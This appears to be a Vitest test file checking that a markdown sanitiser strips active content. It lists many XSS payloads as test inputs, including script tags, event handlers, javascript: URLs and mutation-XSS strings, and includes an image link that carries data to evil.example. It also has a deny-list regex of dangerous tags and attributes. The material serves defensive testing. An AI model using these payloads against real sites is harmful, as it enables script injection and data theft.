// @vitest-environment jsdom
import { describe, expect, it } from "vitest";

import { safeMarkdown } from "@/run/values/markdown";

function html(text: string): string {
  const place = document.createElement("div");
  place.append(safeMarkdown(text));
  return place.innerHTML.trim();
}

/** Return everything in the elements that could act: scripts, handlers, addresses, styles. */
function acts(text: string): string[] {
  const place = document.createElement("div");
  place.append(safeMarkdown(text));
  return [...place.querySelectorAll("*")].flatMap((element) => {
    const name = element.localName;
    const forbidden =
      /^(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base)$/;
    const attributes = element
      .getAttributeNames()
      .filter(
        (attribute) =>
          /^(on|style|class|id|name|srcset|action|formaction|data)/.test(attribute) ||
          (attribute === "href" &&
            !/^(https?:|mailto:)/i.test(element.getAttribute(attribute) ?? "")) ||
          (attribute === "src" && !element.getAttribute(attribute)?.startsWith("data:image/png")),
      );
    return [...(forbidden.test(name) ? [name] : []), ...attributes.map((one) => `${name}@${one}`)];
  });
}

describe("Markdown that nobody vouches for", () => {
  it("keeps its words and their shape", () => {
    expect(html("Hello **Ada**\n\n- one\n- two\n\n`x < 1`")).toBe(
      "<p>Hello <strong>Ada</strong></p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<p><code>x &lt; 1</code></p>",
    );
    expect(html("| a |\n|---|\n| 1 |")).toContain("<td>1</td>");
  });

  it("puts its headings below those of the page", () => {
    expect(html("# Top\n\n###### Low")).toBe("<h4>Top</h4>\n<h6>Low</h6>");
  });

  it("opens links elsewhere, telling nothing of this page", () => {
    expect(html("[a](https://example.org/x)")).toBe(
      '<p><a href="https://example.org/x" target="_blank" rel="noopener noreferrer nofollow ugc" title="https://example.org/x">a</a></p>',
    );
  });

  it("loads no picture from elsewhere: its address may carry data out", () => {
    const text = "![secret](https://evil.example/?q=data)";
    expect(html(text)).toContain('<a href="https://evil.example/?q=data"');
    expect(html(text)).not.toContain("<img");
    expect(html("![](//evil.example/x.png)")).not.toContain("<img");
    expect(html("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain(
      '<img src="data:image/png',
    );
    expect(html("![x](data:image/svg+xml;base64,PHN2Zz4=)")).not.toContain("<img");
  });

  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1))",
    '<a href="\u0001javascript:alert(1)">a</a>',
    "<a href='jav&#x09;ascript:alert(1)'>a</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<form action=https://evil.example><input name=q><button>Send</button></form>",
    "<style>body{display:none}</style><p style=position:fixed>x</p>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil.example>",
    "<a id=builder-settings name=builder-settings>clobbered</a><form id=builder></form>",
    "<p class='button button--danger' onclick=alert(1)>Delete</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<img srcset='https://evil.example/x 1x'>",
    "```html\n<script>alert(1)</script>\n```",
    "<div><a href=https://ok.example><img src=https://evil.example/x></a></div>",
    "`a`<img src=x onerror=alert(1)>`b`",
    "<p title='</p><script>alert(1)</script>'>x",
    "<x onclick=alert(1)>y</x>",
  ])("lets nothing act: %s", (text) => {
    expect(acts(text)).toEqual([]);
  });

  it("is not stopped by text without end", () => {
    const began = performance.now();
    safeMarkdown("*a ".repeat(20_000) + "[".repeat(2000) + "<".repeat(2000));
    expect(performance.now() - began).toBeLessThan(5000);
  });
});
